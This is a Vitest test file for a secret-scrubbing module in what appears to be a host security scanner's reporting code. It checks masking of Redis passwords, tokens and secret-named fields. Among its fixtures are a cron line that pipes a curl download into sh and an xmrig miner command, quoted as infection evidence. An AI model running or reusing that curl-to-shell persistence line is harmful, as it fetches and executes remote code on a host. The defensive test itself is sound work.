import { describe, expect, it } from 'vitest';
import { MASK, scrubDeep, scrubText } from '../../../src/report/scrub.js';

describe('scrub', () => {
  it('masks secret-looking values inside text', () => {
    expect(scrubText('requirepass hunter2hunter2')).toBe(`requirepass ${MASK}`);
    expect(scrubText('redis-cli -h 10.0.0.1 -p 6380 -a "p w" CONFIG GET dir')).toBe(`redis-cli -h 10.0.0.1 -p 6380 -a ${MASK} CONFIG GET dir`);
    expect(scrubText('AUTH s3cret')).toBe(`AUTH ${MASK}`);
    expect(scrubText('password=abc; token=xyz')).toBe(`password=${MASK}; token=${MASK}`);
    expect(scrubText('{"password": "abc", "user": "u"}')).toBe(`{"password": ${MASK}, "user": "u"}`);
    expect(scrubText('REDISCLI_AUTH=zzz redis-cli ping')).toBe(`REDISCLI_AUTH=${MASK} redis-cli ping`);
  });

  it('leaves ordinary text alone', () => {
    for (const s of ['PasswordAuthentication no', 'bypass the proxy', 'applications that need the new password: java app (/opt/app/conf/redis.properties)', 'set requirepass', '*/5 * * * * curl -fsSL https://x/api/report?pm=0 | sh'])
      expect(scrubText(s)).toBe(s);
  });

  it('masks exact secret values anywhere, and is idempotent', () => {
    expect(scrubText('the value Zq8-long-secret appears', ['Zq8-long-secret'])).toBe(`the value ${MASK} appears`);
    expect(scrubText(scrubText('requirepass x1'))).toBe(`requirepass ${MASK}`);
  });

  it('drops fields named like secrets at any depth', () => {
    const out = scrubDeep({ a: { password: 'x', redisPassword: 'y', requirepass: 'z', apiKey: 'k', private_key: 'p', note: 'keep' }, list: [{ secret: 1, ok: 2 }] });
    expect(out).toEqual({ a: { note: 'keep' }, list: [{ ok: 2 }] });
  });

  it('copies only what it masks: untouched parts are the same objects, and the input is never changed', () => {
    const clean = { name: 'h01', findings: [{ title: 'miner', evidence: [{ text: 'xmrig -o pool:3333' }] }] };
    const dirty = { name: 'h02', findings: [{ title: 'redis', evidence: [{ text: 'redis-cli -a hunter22 info' }] }, clean.findings[0]] };
    const input = { hosts: [clean, dirty], token: 't0ken-value' };
    const copy = JSON.stringify(input);
    const out = scrubDeep(input);
    expect(JSON.stringify(input)).toBe(copy);
    expect(out).not.toBe(input);
    expect('token' in out).toBe(false);
    expect(out.hosts[0]).toBe(clean);
    expect(out.hosts[1]).not.toBe(dirty);
    expect(out.hosts[1]!.findings[0]!.evidence[0]!.text).toBe(`redis-cli -a ${MASK} info`);
    expect(out.hosts[1]!.findings[1]).toBe(clean.findings[0]);
    expect(scrubDeep(clean)).toBe(clean);
  });
});
